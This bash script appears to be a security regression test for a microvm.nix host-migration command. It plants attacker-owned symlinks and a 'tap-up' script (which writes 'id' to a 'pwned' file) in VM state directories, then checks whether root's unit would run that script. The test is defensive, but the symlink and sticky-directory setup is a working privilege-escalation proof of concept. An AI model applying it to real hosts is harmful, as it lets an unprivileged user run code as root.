#!/usr/bin/env bash
# On a host of an earlier version or of microvm.nix, the hypervisor's user writes what steers the VM; the host is moved to this version.
. "$(dirname "$0")/common.sh"
mkdir -p "$work/evil/bin" "$work/evil/share/microvm"
printf '#!/bin/sh\nid > %s/pwned\n' "$work" >"$work/evil/bin/tap-up"
chmod 755 "$work/evil/bin/tap-up"
chown -R "$attacker_user:$attacker_group" "$work/evil"
# The directory is the hypervisor's own, as microvm.nix makes it.
mkdir "$state/web"
chown "$attacker_user:$attacker_group" "$state/web"
as_attacker ln -s "$work/evil" "$state/web/current"
# And one of root's with the sticky bit, as ours was, whose runner is the attacker's.
mkdir "$state/db"
chown "0:$attacker_group" "$state/db"
chmod 1775 "$state/db"
as_attacker sh -c "mkdir -p '$state/db/runners/0123/bin' && cp '$work/evil/bin/tap-up' '$state/db/runners/0123/bin' && ln -s runners/0123 '$state/db/current' && echo '$work/evil.json' > '$state/db/file'"
"$microvm" host move --state-dir "$state" >/dev/null 2>&1 || true
for vm in web db; do
    run update "$vm" >/dev/null 2>&1 || true
    [ -d "$state/.host" ] || reached "this version takes what steers a VM from where its hypervisor writes"
    [ ! -e "$state/.host/$vm/current" ] || reached "root's unit would run $(readlink -f "$state/.host/$vm/current")/bin/tap-up"
done
